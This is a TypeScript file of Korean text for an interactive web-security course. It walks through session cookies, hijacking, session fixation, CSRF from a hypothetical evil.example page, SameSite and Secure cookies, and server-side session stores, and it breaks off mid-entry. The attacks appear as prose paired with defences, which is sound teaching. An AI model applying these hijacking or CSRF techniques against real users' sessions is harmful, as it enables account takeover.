/**
 * 첫 장 뒤에 오는 모든 장의 한국어 설명과 나중 장들의 패널 문구. 첫 화면을 그린 직후에 불러와
 * 핵심 문구의 `steps`, `chapters`에 합칩니다(i18n.ts 참고).
 */
import type { CourseMessages } from './course-en';

export const courseKo: CourseMessages = {
  chapters: {
    'cookie-store': '쿠키와 세션',
    authz: '누구인지, 무엇을 해도 되는지',
    stateless: '쿠키 없는 HTTP',
    'cross-site': 'SameSite와 CSRF',
    secure: 'Secure: https로만 가는 쿠키',
    kinds: '세션이라 불리는 세 가지',
    xss: '손으로 해 보는 XSS',
  },
  steps: {
    // The chapters after the first: many visitors, security, expiry, storage, many servers.
    stateless: {
      title: '두 번째 브라우저',
      body: 'Safari가 같은 쇼핑몰을 엽니다. Safari는 자기만의 쿠키 저장소를 갖고 있고 아직 비어 있어서, 서버가 새 세션 ID를 나눠 주기 전까지는 다른 누구와도 구별할 수 없습니다. 브라우저마다 자기 줄이 생깁니다.',
    },
    'second-browser': {
      title: '기록부가 채워집니다',
      body: 'Chrome이 다시 오고 Edge도 들어옵니다. 브라우저 셋, ID 셋, 줄 셋. 서버는 각 브라우저가 보내는 쿠키만으로 이들을 구별합니다.',
      beat1:
        'Chrome이 쿠키를 들고 다시 옵니다. 서버는 그 줄을 찾아 last_activity만 고칩니다. 새 줄은 생기지 않습니다.',
      beat2:
        'Edge는 쿠키 저장소가 비어 있어 쿠키 없이 옵니다. 서버가 세 번째 줄을 쓰고, Set-Cookie로 Edge만의 ID를 줍니다.',
    },
    'two-logins': {
      title: '누가 로그인했을까요?',
      body: '준은 Edge에서, 미나는 Chrome에서 로그인합니다. 이제 기록부가 수업 자료의 표와 닮았습니다. user_id가 있는 줄(로그인한 회원)과 NULL인 줄(손님)이 섞여 있습니다.',
      beat1:
        '준이 Edge에서 로그인합니다. Edge의 줄이 새 ID의 줄로 바뀌고, 거기에 user_id 214가 적힙니다.',
      beat2:
        '미나가 Chrome에서 로그인합니다. 미나의 줄도 새 ID를 받고 user_id 152가 적힙니다. Safari의 줄은 여전히 NULL, 손님입니다.',
    },
    'own-jars': {
      title: '브라우저마다 자기 쿠키 저장소',
      body: 'Edge는 준의 페이지를 보고, 로그인한 적 없는 Safari는 401을 받습니다. 브라우저 탭을 바꿔 가며 애플리케이션 → 쿠키를 열어 보세요. 저장소마다 다른 ID가 들어 있습니다.',
      beat1:
        'Edge가 준의 쿠키를 싣고 마이페이지를 요청합니다. 서버는 그 줄에서 user_id 214를 찾아 준의 페이지를 보여 줍니다.',
      beat2:
        'Safari도 자기 쿠키를 보내지만 그 줄에는 user_id가 없습니다. 요청은 같아도 쿠키 저장소가 다르니 401입니다.',
    },
    httponly: {
      title: 'HttpOnly는 스크립트를 막습니다',
      body: '페이지의 스크립트가 document.cookie를 읽습니다. 세션 ID 쿠키는 <httponly>HttpOnly</httponly>이므로, 브라우저가 요청마다 이 쿠키를 보내는데도 스크립트에는 아무것도 보이지 않습니다. 그래서 <xss>XSS</xss> 공격이 세션 ID를 읽어 가지 못합니다.',
    },
    tamper: {
      title: '쿠키를 손으로 고치면',
      body: '누군가 Safari의 쿠키를 지어낸 ID로 고쳤습니다. 서버는 <signature>서명</signature>을 확인하고, 맞지 않으니 세션이 없는 요청으로 다룹니다. 새 익명 세션이 생기고, 마이페이지는 처음 온 손님이 받는 것과 똑같은 빨간 401 “이 페이지를 보려면 로그인하세요”를 받습니다. 서버가 죽거나 따로 오류 페이지를 내지 않고, 지어낸 ID로는 아무도 들어가지 못합니다.',
    },
    stolen: {
      title: '훔친 쿠키는 로그인과 같습니다',
      body: '공격자가 Chrome의 쿠키를 Firefox에 복사했습니다. Firefox가 마이페이지를 요청하자 비밀번호 없이 미나의 페이지가 열립니다. 서버는 올바른 세션 ID만 볼 뿐입니다. 이것이 <hijack>세션 하이재킹</hijack>입니다. 그 줄을 보면 이제 공격자의 IP가 적혀 있습니다.',
    },
    'logout-public-pc': {
      title: '공용 PC에서 로그아웃해야 하는 이유',
      body: '미나가 로그아웃합니다. 서버가 그 줄을 지웠으니 훔친 복사본은 쓸모가 없어졌습니다. Firefox는 이제 401을 받습니다. 로그아웃해야 그 ID를 가진 모든 사람의 세션이 끝납니다. 쿠키를 <secure>Secure</secure>(HTTPS 전용)로 만들면 오가는 길에서 쿠키를 훔치기가 훨씬 어려워집니다.',
      beat1:
        '미나가 Chrome에서 로그아웃합니다. 서버는 미나의 줄을 지우고, Set-Cookie로 Chrome의 쿠키도 비웁니다.',
      beat2:
        'Firefox가 훔친 복사본을 그대로 보냅니다. 가리키던 줄이 없으니 401이고, 서버는 새 익명 세션을 시작합니다.',
    },
    fixation: {
      title: '세션 고정 공격과 ID 재발급',
      body: '공격자가 익명 ID를 하나 받아서 미나의 브라우저에 심어 둡니다. 미나가 로그인하지만… 서버가 로그인할 때 <regenerate>ID를 새로 발급</regenerate>하므로 심어 둔 ID는 지워집니다. 공격자의 요청은 401을 받습니다.',
      beat1:
        'Firefox가 익명 ID를 가지고 홈페이지를 엽니다. 이어서 공격자가 그 ID를 미나의 Chrome에 몰래 복사해 넣습니다.',
      beat2:
        '미나가 심어진 ID를 보내며 로그인합니다. 서버는 그 세션을 지우고, user_id 152가 담긴 완전히 새로운 ID를 미나에게 줍니다.',
      beat3:
        '공격자가 심어 둔 ID로 마이페이지를 요청합니다. 그 줄은 이미 지워졌으니 서버는 401로 답합니다.',
    },
    'memory-cookie': {
      title: '브라우저를 닫으면 사라지는 쿠키',
      body: 'cookie.maxAge를 아예 정하지 않는 앱도 많습니다. express-session의 기본값이 그렇습니다. 쇼핑몰도 이제 그렇게 바꾸고, 미나가 다시 로그인합니다. Set-Cookie에 Expires가 없으니 <memcookie>세션 쿠키</memcookie>(브라우저를 닫으면 사라지는 쿠키)입니다. maxAge가 없으면 서버에 있는 세션에도 만료 시각이 없습니다.',
    },
    'close-browser': {
      title: '브라우저를 닫으면',
      body: '미나가 Chrome을 닫습니다. 쿠키에 Expires가 없었으므로 브라우저가 잊어버립니다(시작할 때 이전 탭을 복원하는 브라우저라면 이런 쿠키도 되살릴 수 있습니다). 다시 연 Chrome은 낯선 사람이라 401을 받습니다. 기록부를 보세요. 미나의 예전 줄이 그대로 있습니다. maxAge가 없으니 이 세션은 만료되지 않고, MemoryStore는 서버가 재시작될 때까지 이 줄을 들고 있습니다. 서버는 브라우저가 닫혔는지 알 수 없습니다. 그래서 실제 저장소는 TTL을 둡니다(connect-redis는 기본 하루).',
    },
    'remember-me': {
      title: '영속 쿠키 (“로그인 상태 유지”)',
      body: '이제 서버가 cookie.maxAge를 7일로 정하고 rolling을 다시 켜며, Secure와 SameSite=Lax도 설정합니다. 로그인하면 Set-Cookie에 <expires>Expires</expires> 날짜가 붙습니다. 브라우저가 디스크에 저장하는 <persistent>영속 쿠키</persistent>입니다. (express-session은 maxAge를 Expires로 바꿔 보냅니다.)',
    },
    reopen: {
      title: '다시 브라우저를 닫으면',
      body: '미나가 Chrome을 닫고 한 시간 뒤에 다시 엽니다. 이번에는 Expires가 있어서 쿠키가 살아남고, 마이페이지가 바로 열립니다.',
    },
    restart: {
      title: '서버가 재시작됩니다',
      body: '세션 저장소는 서버의 메모리였습니다. 메모리는 빠르지만 <volatile>휘발성</volatile>이라, 서버가 다시 시작되면 모든 줄이 사라지고 모두 로그아웃됩니다. 미나의 쿠키는 여전히 도착하지만 가리키는 것이 없습니다. 그래서 실제 서비스는 <redis>Redis</redis> 같은 저장소에 세션을 둡니다.',
    },
    'busy-day': {
      title: '바쁜 하루',
      body: '방문자 천 명이 몰려옵니다. 이 쇼핑몰은 아무것도 담기지 않은 세션도 저장하므로(saveUninitialized: true), 로그인하지 않은 방문자도 한 명마다 서버 메모리에 한 줄씩 차지합니다. saveUninitialized: false였다면 로그인했거나 장바구니에 무언가 담은 방문자만 자리를 차지했을 것입니다. 세션이 많으면 메모리가 듭니다. 서버가 여러 대라면 중앙 저장소로 세션을 나눠 써야 합니다. 그러지 않으면 다른 서버에서 로그인한 사용자를 알아보지 못합니다.',
    },
    'two-servers': {
      title: '서버 둘, 메모리 둘',
      body: '쇼핑몰이 커져서 이제 서버 A와 B가 <lb>로드 밸런서</lb> 뒤에 있습니다. 로드 밸런서는 요청을 서버에 차례로 나눠 줍니다. 각 서버는 세션을 자기 메모리에 둡니다. 미나가 로그인하자 서버 A가 답하고 A의 메모리에 줄을 씁니다.',
    },
    'lost-login': {
      title: '로그인이 사라집니다',
      body: '미나가 마이페이지를 엽니다. 이번에는 로드 밸런서가 요청을 서버 B로 보냅니다. B는 이 세션 ID를 본 적이 없으니 401입니다. 게다가 B는 새 세션을 시작하고 새 쿠키를 보내서 A가 알던 쿠키를 덮어씁니다. 서버마다 메모리를 따로 쓰면 로그인이 사라집니다.',
    },
    sticky: {
      title: '스티키 세션',
      body: '<sticky>스티키 세션</sticky>에서는 로드 밸런서가 같은 방문자를 언제나 같은 서버로 보냅니다. 미나는 A에서 로그인하고 계속 A로 가니 마이페이지가 잘 열립니다. 하지만 A가 멈추면 A에 묶인 사람은 모두 로그아웃되고, 부하도 고르게 나뉘지 않습니다.',
      beat1:
        '미나가 로그인합니다. 로드 밸런서가 미나를 서버 A로 보내고, A는 자기 메모리에 줄을 씁니다.',
      beat2:
        '마이페이지 요청입니다. 차례대로라면 B로 갈 요청이지만 미나는 A에 묶여 있습니다. A에 미나의 줄이 있으니 200입니다.',
      beat3:
        '한 번 더 요청해도 역시 A입니다. 미나의 요청은 언제나 미나의 세션이 있는 서버에 닿습니다.',
    },
    replication: {
      title: '세션 복제',
      body: '<replication>세션 복제</replication>에서는 모든 서버가 모든 세션의 복사본을 갖습니다. 미나가 A에서 로그인하면 그 줄이 B에도 복사되어 B도 미나를 알아봅니다. 잘 되지만 모든 서버가 모든 세션을 들고 있으니, 서버 수만큼 메모리가 늘어납니다.',
      beat1:
        '미나가 서버 A에서 로그인합니다. A가 줄을 쓰고 B에도 복사합니다. 두 서버의 메모리를 함께 보세요.',
      beat2:
        '이번 마이페이지 요청은 서버 B로 갑니다. B에도 미나의 줄이 복사돼 있으니 미나를 알아보고 200으로 답합니다.',
    },
    'central-store': {
      title: '중앙 세션 저장소',
      body: '모든 서버가 <redis>Redis</redis> 같은 공용 저장소 하나에서 세션을 읽고 씁니다. 복사본은 하나이고, 어느 서버든 답할 수 있습니다. 큰 서비스 대부분이 이렇게 합니다. express-session에서는 옵션 하나면 됩니다: store: new RedisStore({ client }). 서버 아래에서 서버가 Redis와 주고받는 명령을 볼 수 있습니다. 세션을 읽을 때는 GET sess:…, 쓸 때는 SET sess:…로 세션 JSON을 저장하면서 EX로 TTL(쿠키 maxAge를 초로 바꾼 값)을 겁니다. EXPIRE는 TTL만 새로 겁니다. TTL이 다 되면 Redis가 알아서 키를 지웁니다.',
      beat1:
        '미나가 서버 A에서 로그인합니다. A는 자기 메모리에 두지 않고 세션을 Redis에 씁니다(SET sess:…).',
      beat2:
        '마이페이지 요청은 서버 B로 갑니다. B가 Redis에서 같은 sess:… 키를 읽어 미나를 찾고 200으로 답합니다.',
    },
    frameworks: {
      title: '같은 원리, 다른 이름',
      body: '지금까지 express-session이 일하는 모습을 보았습니다. 손님 기록부 아래 ‘express-session 옵션’에서 서버의 옵션을 코드로 볼 수 있습니다. 다른 기술은 같은 것을 다른 이름으로 부릅니다. 자바의 <jsessionid>JSESSIONID</jsessionid>(HttpSession), PHP의 PHPSESSID, 그리고 이 기록부가 열 이름을 빌려 온 Laravel의 sessions 테이블이 그렇습니다. Flask는 기본 동작부터 다릅니다. 세션 데이터를 서명한 쿠키에 통째로 담고, 서버에는 줄을 남기지 않습니다.',
    },
    'cross-site-login': {
      title: '미나의 로그인: SameSite를 정하지 않은 쿠키',
      body: '쇼핑몰의 쿠키가 다시 평소 설정으로 돌아왔습니다. HttpOnly이고 30분 뒤에 만료되지만, SameSite는 정하지 않았습니다. 미나가 Chrome에서 로그인하고 새 <cookie>세션 ID 쿠키</cookie>를 받습니다. 개발자 도구(애플리케이션 → 쿠키)에서 보면 SameSite 칸이 비어 있습니다. 다른 사이트가 시작한 요청에 브라우저가 이런 쿠키를 어떻게 다루는지가 이 장의 주제입니다.',
    },
    'cross-site-evil': {
      title: '같은 브라우저 안의 다른 사이트',
      body: '미나가 같은 탭에서 경품을 준다는 https://evil.example 페이지를 엽니다. 서버도 따로 있는 다른 사이트입니다. 그런데 이 페이지에는 주소가 https://shop.example/me인 이미지가 있어서, Chrome이 쇼핑몰에 그 이미지를 요청합니다. 이 요청은 evil.example이 시작했고(통신 회선의 Referer가 알려 주고, 개발자 도구의 네트워크 탭에는 Sec-Fetch-Site: cross-site도 보입니다), 미나가 연 페이지가 아니라 이미지 요청입니다. Chrome은 SameSite가 없는 쿠키를 Lax로 다루고, Lax 쿠키는 다른 사이트의 이미지 요청에 절대 실리지 않습니다. 쿠키는 보내지 않았고 쇼핑몰은 <status401>401</status401>로 답합니다.',
    },
    'cross-site-form': {
      title: '경품 버튼이 숨은 폼을 쇼핑몰로 보냅니다',
      body: '미나가 ‘받기’를 누릅니다. 페이지에는 action이 https://shop.example/cart인 숨은 폼이 있었고, Chrome은 이 폼을 그곳으로 POST한 뒤 쇼핑몰의 응답을 보여 줍니다. 이번에는 쿠키가 함께 갑니다. Chrome은 SameSite가 없는 쿠키에 예외를 하나 둡니다. 쿠키가 생긴 지 2분이 안 됐다면 다른 사이트에서 시작한 최상위 POST에도 실어 보냅니다(‘Lax+POST’, 일부 로그인 흐름이 깨지지 않게 남겨 둔 규칙입니다). 미나는 방금 로그인했으니 위조된 요청에 미나의 세션이 실리고, 쇼핑몰은 미나의 장바구니에 상품권을 넣습니다. 미나는 그런 요청을 한 적이 없습니다. 이것이 사이트 간 요청 위조, CSRF입니다.',
    },
    'cross-site-later': {
      title: '5분 뒤, 2분 유예가 끝났습니다',
      body: '시뮬레이션 시계로 5분 뒤, 미나가 evil.example로 돌아가 다시 ‘받기’를 누릅니다. 이제 쿠키가 생긴 지 2분이 넘었으니 Chrome은 그냥 Lax로 다룹니다. 다른 사이트에서 시작한 POST에는 쿠키를 보내지 않습니다(이유는 통신 회선에 나옵니다). 쇼핑몰은 처음 온 손님으로 보고 새 세션을 만들어, 비어 있는 그 장바구니에 상품권을 넣습니다. 미나의 장바구니는 그대로입니다. 하지만 쿠키 저장소를 보세요. 응답이 최상위 이동으로 돌아왔고 최상위 이동의 응답은 쿠키를 저장할 수 있으므로, 낯선 세션의 쿠키가 미나의 쿠키를 덮어썼습니다. 실패한 위조에도 미나는 로그아웃됐습니다.',
      beat1:
        '미나가 evil.example을 다시 엽니다. 쿠키는 이제 그냥 Lax라서 이미지 요청에 실리지 않고, 마이페이지는 401입니다.',
      beat2:
        '‘받기’를 누릅니다. POST도 쿠키 없이 가서 상품권은 낯선 새 장바구니에 들어가고, 그 세션의 쿠키가 미나의 쿠키를 덮어씁니다.',
    },
    'cross-site-none': {
      title: 'SameSite=None: 어느 사이트든 쿠키를 보낼 수 있습니다',
      body: '쇼핑몰이 cookie.sameSite를 none으로 바꿉니다. 브라우저는 None을 Secure와 함께일 때만 받아 주므로 cookie.secure도 켭니다. express-session은 쿠키 설정을 세션마다 함께 저장하므로 새 설정은 새 세션에만 적용됩니다. 그래서 미나가 다시 로그인하고, 쿠키에 SameSite=None; Secure가 붙습니다(상품권이 든 낯선 세션의 장바구니도 로그인하면서 따라왔습니다). 이제 evil.example에서는 쿠키가 얼마나 오래됐든 이미지와 숨은 폼 모두에 실립니다. 이미지 요청은 미나의 페이지를 200으로 받고(evil.example은 그 내용을 읽을 수 없습니다), 폼은 상품권을 하나 더 넣습니다. None은 다른 사이트에 박힌 위젯처럼 다른 사이트에서도 꼭 가야 하는 쿠키를 위한 값이지, 로그인 쿠키를 위한 값이 아닙니다.',
      beat1: '미나가 다시 로그인합니다. 새 Set-Cookie에 SameSite=None; Secure가 붙습니다.',
      beat2:
        '이제 evil.example의 이미지 요청에도 쿠키가 실립니다. 쇼핑몰은 미나의 페이지를 200으로 보내지만 evil.example은 읽지 못합니다.',
      beat3: '숨은 폼에도 쿠키가 실립니다. 미나의 장바구니에 상품권이 하나 더 들어갑니다.',
    },
    'cross-site-token': {
      title: 'CSRF 토큰: 다른 사이트는 알 수 없는 값',
      body: '쿠키는 여전히 어디서든 갑니다. 이번에는 쇼핑몰의 코드가 바뀝니다. csrf-sync를 쓰면 쇼핑몰의 모든 폼에 숨은 _csrf 필드가 붙습니다. 세션에 보관한 무작위 토큰입니다. 미나의 페이지에도 이제 토큰이 들어 있습니다. evil.example에서 숨은 폼이 다시 전송됩니다. 쿠키는 가고 세션도 찾았지만, 폼에 토큰이 없습니다. 이 검사는 어떤 라우트보다 먼저 실행되어 403으로 답하고, 아무것도 추가되지 않습니다. evil.example은 쇼핑몰의 페이지를 읽을 수 없으니 토큰을 알아낼 수 없습니다. SameSite와 토큰을 함께 쓰는 것이 보통의 방어입니다.',
      beat1:
        '미나가 쇼핑몰에서 마이페이지를 엽니다. 서버가 무작위 CSRF 토큰을 세션에 저장하고 페이지에도 넣습니다.',
      beat2:
        'evil.example의 이미지 요청은 여전히 쿠키를 싣고 토큰이 든 미나의 페이지를 받지만, evil.example은 그 내용을 읽지 못합니다.',
      beat3:
        '숨은 폼은 쿠키는 싣고 왔지만 _csrf 필드가 없습니다. 라우트보다 먼저 실행되는 검사가 403으로 막고, 아무것도 담기지 않습니다.',
    },
    'cookie-store': {
      title: '같은 쇼핑몰, 세션은 쿠키 안에',
      body: '이제 쇼핑몰은 cookie-session 패키지로 동작합니다. 세션을 서버의 <store>세션 저장소</store>가 아니라 <cookie>쿠키</cookie> 안에 통째로 담는 방식입니다. Chrome이 홈페이지를 엽니다. 서버가 아직 기억할 것이 없으니 쿠키를 아예 보내지 않고, <book>손님 기록부</book>도 비어 있습니다.',
    },
    'cookie-store-cart': {
      title: '장바구니가 쿠키에 들어갑니다',
      body: 'Chrome이 장바구니에 apple을 담습니다. 응답에 <setcookie>Set-Cookie</setcookie>가 두 줄 옵니다. session에는 장바구니 자체가, session.sig에는 그 <signature>서명</signature>이 들어 있습니다. 손님 기록부는 여전히 비어 있습니다. 서버는 아무것도 적어 두지 않았고, 이 손님에 대해 아는 것은 전부 쿠키 안에 있습니다.',
    },
    'cookie-store-login': {
      title: '로그인 정보도 쿠키에',
      body: '미나가 로그인합니다. 서버는 장바구니 옆에 <userid>userId</userid> 152를 써서 쿠키에 담고 다시 서명합니다. 데이터 자체가 세션이므로 새로 바꿀 세션 ID도 없습니다. 개발자 도구의 애플리케이션 → 쿠키에서 쿠키를 보고, 손님 기록부 아래 패널에서 그 쿠키를 풀어 읽은 내용도 확인해 보세요.',
    },
    'cookie-store-read': {
      title: '서명했다고 숨겨지지는 않습니다',
      body: '값이 뒤죽박죽처럼 보여도 base64로 바꿔 적었을 뿐이라 누구나 되돌릴 수 있습니다. eyJ는 {"를 base64로 바꾸면 나오는 첫머리입니다. 풀어 보면 {"cart":["apple"],"userId":152}가 그대로 읽힙니다. 비밀 키가 세션을 “암호화”한다고 적은 자료도 있지만, 실제로 비밀 키가 하는 일은 서명입니다. 서명은 이 바이트를 서버가 썼다는 것을 증명할 뿐, 아무것도 감추지 않습니다. 이런 쿠키에 비밀번호나 개인 정보를 넣으면 안 됩니다.',
    },
    'cookie-store-tamper': {
      title: '쿠키를 고치면 서명이 막습니다',
      body: '이번에는 개발자 도구에서 Chrome의 쿠키를 준의 계정인 userId 214로 고치고 마이페이지를 요청합니다. 서버는 자기 키로 session=<값>에 서명을 다시 만들어 비교하는데, 예전 session.sig와 맞지 않습니다. 그래서 쿠키를 무시하고 빈 세션으로 시작해 <status401>401</status401>로 답합니다. 맞지 않는 session.sig는 지우라고 브라우저에 알려 주기까지 합니다.',
    },
    'cookie-store-bytes': {
      title: '쿠키는 모든 요청에 따라갑니다',
      body: '미나가 다시 로그인하고 pear, plum, fig, kiwi, mango, cherry를 담습니다. 이제 요청마다 base64로 바꾼 장바구니 전체와 서명이 함께 갑니다. 손님 기록부 아래 그래프는 이번 방문의 요청을 두 번씩 잽니다. 쿠키 기반 세션으로 실제 보낸 크기, 그리고 같은 요청을 세션 ID(connect.sid)로 보냈을 때의 크기입니다. 뒤의 것은 express-session에서 똑같이 다시 돌려 본 값입니다. 담긴 것이 적을 때는 쿠키 기반 세션이 ID와 비슷하거나 오히려 작습니다. 하지만 하나 담을 때마다 커지고, 세션 ID는 늘 같은 크기입니다.',
      beat1:
        '미나가 로그인합니다. 서버는 userId 152를 쿠키에 써 넣고 서명합니다. Set-Cookie가 두 줄 오고, 손님 기록부는 여전히 비어 있습니다.',
      beat2:
        'pear를 담습니다. 응답은 userId와 장바구니, 곧 세션 전체를 새 서명과 함께 돌려보냅니다.',
      beat3:
        'plum을 담습니다. 서버는 쿠키에 덧붙이지 않고 전부 다시 써서 다시 서명합니다. 그래프에는 막대가 한 쌍 더 생깁니다.',
      beat4:
        'fig를 담습니다. 이 요청은 두 가지가 든 장바구니를 Cookie 헤더에 싣고 갔고, 응답은 세 가지가 든 장바구니를 돌려줍니다.',
      beat5:
        'kiwi를 담습니다. 그래프에서 쿠키 기반 세션의 막대는 계속 길어지고, 세션 ID의 막대는 그대로입니다.',
      beat6:
        'mango를 담습니다. 이제 다섯 가지가 요청마다 따라갑니다. 장바구니를 쓰지 않는 페이지로 가는 요청도 마찬가지입니다.',
      beat7:
        '여섯 번째로 cherry를 담습니다. session 값을 base64에서 풀면 장바구니 전체를 누구나 읽을 수 있습니다.',
      beat8:
        '마이페이지 요청에도 여섯 가지가 든 장바구니가 실려 갑니다. 바뀐 것이 없으니 Set-Cookie는 오지 않습니다. 마지막 막대 한 쌍을 비교해 보세요.',
    },
    'cookie-store-compare': {
      title: '쿠키 기반 세션과 서버 세션, 한눈에',
      body: '31분이 지났습니다. 쿠키의 <expires>Expires</expires>는 데이터가 마지막으로 바뀐 때부터 30분 뒤로 정해졌으니, Chrome은 쿠키를 버렸고 마이페이지는 401로 답합니다. 손님 기록부 아래 표는 방금 해 본 일을 가지고 두 방식을 비교합니다. 데이터는 어디에 있는지, 공격자는 무엇을 할 수 있는지, 요청마다 무엇을 치르는지, 언제 끝날지는 누가 정하는지를 견주어 보세요.',
    },
    'authz-guest': {
      title: '관리자 페이지가 묻습니다: 누구세요?',
      body: '쇼핑몰은 다시 express-session으로 돌아가고, 관리자 페이지가 생겼습니다. 로그아웃한 Chrome이 이 페이지를 요청합니다. 서버는 세션에서 로그인한 사용자를 찾지 못하니 누구인지 알 수 없어 <status401>401</status401> Unauthorized로 답합니다. 먼저 로그인하라는 뜻입니다. 누구인지 확인하는 일이 <auth>인증</auth>입니다.',
    },
    'authz-user': {
      title: '누군지는 알지만 안 됩니다: 403',
      body: '준이 로그인하고 관리자 페이지를 다시 요청합니다. 세션에 user_id 214가 있으니 이제 서버는 누구인지 정확히 압니다. 하지만 준의 계정은 관리자가 아니라서 403 Forbidden으로 답합니다. 다시 로그인해도 소용없습니다. 서버는 준을 알아보지만 들여보내지 않을 뿐입니다. 알아본 사용자가 무엇을 해도 되는지 정하는 일이 인가입니다.',
      beat1: '준이 Chrome에서 로그인합니다. 세션이 새 ID를 받고, 줄에는 user_id 214가 적힙니다.',
      beat2:
        '준이 /admin을 요청합니다. 서버는 준을 알아보지만 관리자 계정이 아니라서 403 Forbidden으로 답합니다.',
    },
    'authz-admin': {
      title: '관리자는 들어갑니다',
      body: '준이 로그아웃하고 쇼핑몰 관리자인 소라가 로그인합니다. 손님 기록부의 줄에는 이제 user_id 7이 있습니다. 관리자 페이지는 모든 계정과 역할을 보여 주며 200으로 답합니다. 세션은 누가 로그인했는지만 알려 줍니다. 그 계정이 이 페이지를 열어도 되는지는 매번 서버가 계정 정보를 보고 판단합니다.',
      beat1: '준이 로그아웃합니다. 준의 줄이 지워지고 Chrome의 쿠키도 비워집니다.',
      beat2:
        '소라가 로그인합니다. Chrome이 쿠키를 보내지 않으니 새 세션이 생기고, 줄에는 user_id 7이 적힙니다.',
      beat3:
        '소라가 /admin을 요청합니다. 서버가 7번 계정을 찾아보니 관리자여서, 모든 계정을 담아 200으로 답합니다.',
    },
    'stateless-blocked': {
      title: '쿠키를 차단한 브라우저',
      body: 'Safari가 쿠키를 모두 차단하도록 설정돼 있습니다. 쿠키를 보내지도, 받아 두지도 않습니다. Safari가 홈페이지를 엽니다. 서버는 쿠키를 못 봤으니 처음 온 손님으로 여깁니다. 새 세션을 만들고 <book>손님 기록부</book>에 새 줄을 쓰고 Set-Cookie를 보내지만, Safari는 이를 거절합니다(이유는 통신 회선에 나옵니다).',
    },
    'stateless-again': {
      title: '요청마다 처음 보는 손님',
      body: 'Safari가 홈페이지를 한 번 더 엽니다. <cookie>쿠키</cookie>가 없으니 요청 어디에도 같은 브라우저에서 왔다는 표시가 없습니다. 서버는 또 새 세션을 만들고 또 새 줄을 씁니다. 이것이 <stateless>무상태</stateless>라는 말의 뜻입니다. HTTP 자체는 두 요청 사이에 아무것도 기억하지 않고, 그 기억을 실어 나르는 것이 쿠키입니다.',
    },
    'stateless-login': {
      title: '이어지지 않는 로그인',
      body: '미나가 Safari에서 로그인합니다. 비밀번호가 맞으니 서버는 새 세션에 user_id 152를 연결하고, 응답으로 미나의 페이지까지 보여 줍니다. 하지만 그 세션 ID를 담은 Set-Cookie를 Safari가 거절합니다. 그래서 바로 다음 요청인 마이페이지는 처음 보는 손님의 요청이 되고, 서버는 <status401>401</status401>로 답합니다. 쿠키가 없으면 로그인은 한 요청 만에 사라집니다.',
      beat1:
        'Safari가 맞는 비밀번호로 로그인합니다. user_id 152가 담긴 새 줄이 생기고 미나의 페이지도 오지만, Safari는 Set-Cookie를 거절합니다.',
      beat2:
        '마이페이지 요청에 Safari는 쿠키를 싣지 않습니다. 서버는 처음 보는 손님으로 여겨 줄을 또 하나 쓰고 401로 답합니다.',
    },
    'secure-cafe': {
      title: '카페 와이파이의 링크',
      body: '미나는 집에서 https로 쇼핑몰에 로그인해 두었습니다. 지금은 카페에 있고, 와이파이 안내 페이지에 http://shop.example/me 링크가 있습니다. 아무것도 암호화하지 않는 일반 http입니다. 브라우저가 링크를 따라가면 세션 <cookie>쿠키</cookie>도 함께 갑니다. 이 쿠키에는 <secure>Secure</secure> 표시가 없어서, 브라우저는 http든 https든 쇼핑몰로 가는 요청이면 쿠키를 실어 보냅니다. 같은 와이파이에 있는 사람은 지나가는 요청을 그대로 읽을 수 있습니다. 봉투 아래의 ‘카페 네트워크에서 보이는 것’을 보세요.',
      beat1:
        '집에서 미나가 https로 로그인합니다. Set-Cookie 줄 끝을 보세요. Secure 표시가 없습니다.',
      beat2:
        '카페에서 http 링크를 따라갑니다. 쿠키가 평문 그대로 실려 가고, 쇼핑몰은 미나의 페이지를 200으로 보여 줍니다.',
    },
    'secure-https': {
      title: '같은 페이지를 https로',
      body: '미나가 주소를 https로 입력합니다. 요청은 Cookie 헤더까지 똑같지만, 이번에는 TLS 안에 담겨 갑니다. 카페 네트워크에서는 어떤 브라우저가 shop.example과 통신한다는 것(연결을 시작할 때 서버 이름은 암호화되지 않고 갑니다)과 오가는 바이트 수는 보이지만, 헤더는 한 줄도 보이지 않습니다. 쿠키는 그것을 실어 나르는 연결만큼만 안전합니다.',
    },
    'secure-no-cookie': {
      title: 'Secure를 고집하는 서버',
      body: '이제 쇼핑몰이 cookie.secure: true를 씁니다. 미나의 쿠키를 지우고 쇼핑몰 첫 페이지를 http로 엽니다. express-session은 요청이 https로 왔는지(req.secure) 확인합니다. https가 아니므로 Set-Cookie를 아예 보내지 않습니다(서버 내부 참고). 누구나 엿볼 수 있는 연결로는 https 전용 쿠키를 내주지 않는 것입니다. <book>손님 기록부</book>에 줄은 생기지만, 그 ID를 가진 브라우저는 없습니다.',
    },
    'secure-login': {
      title: 'https로 받은 Secure 쿠키',
      body: '미나가 https로 로그인합니다. 이번 Set-Cookie는 끝에 Secure가 붙어 있고, 쿠키 저장소에도 그 표시가 보입니다. <secure>Secure</secure> 쿠키는 브라우저가 https 요청에만 실어 보내는 쿠키입니다.',
    },
    'secure-withheld': {
      title: '다시 카페 링크로',
      body: '카페로 돌아온 미나가 http 링크를 한 번 더 엽니다. 이번에는 브라우저가 쿠키를 보내지 않습니다(이유는 통신 회선에 나옵니다). 요청에 Cookie 헤더가 없으니 와이파이에서 훔칠 것도 없고, 서버는 처음 보는 손님으로 여겨 401로 답합니다. 실제 서비스는 이런 방문자를 곧장 https로 보냅니다(리디렉션, 그리고 브라우저가 다시는 http를 시도하지 않게 하는 HSTS). 이 쇼핑몰은 그러지 않아서, 쿠키가 브라우저에 남는 모습을 볼 수 있습니다.',
    },
    'kinds-login': {
      title: '세션이라 불리는 세 가지',
      body: '“세션”이라는 말은 서로 다른 세 가지를 가리킵니다. 통신 회선 아래의 타임라인에 미나의 브라우저 하나를 두고 셋을 모두 그렸습니다. 연결(요청을 실어 나르는 TCP 연결로, HTTP/1.1은 요청 사이에도 열어 둡니다), 브라우저 세션(브라우저를 켤 때부터 닫을 때까지), 로그인 세션(로그인부터 로그아웃이나 만료까지, 서버가 기억합니다)입니다. 이 쇼핑몰의 쿠키에는 Max-Age가 없습니다. 브라우저 세션 하나 동안만 사는 <memcookie>세션 쿠키</memcookie>입니다. 미나가 Chrome을 켜고 쇼핑몰을 열어 로그인합니다. 세 가지가 1초 안에 모두 시작됩니다. 타임라인의 슬라이더를 움직여(화살표 키도 됩니다) 순간순간을 짚어 보세요.',
      beat1:
        'Chrome을 켜고 쇼핑몰을 엽니다. 새 연결이 열리고, Expires도 Max-Age도 없는 세션 쿠키를 받습니다.',
      beat2:
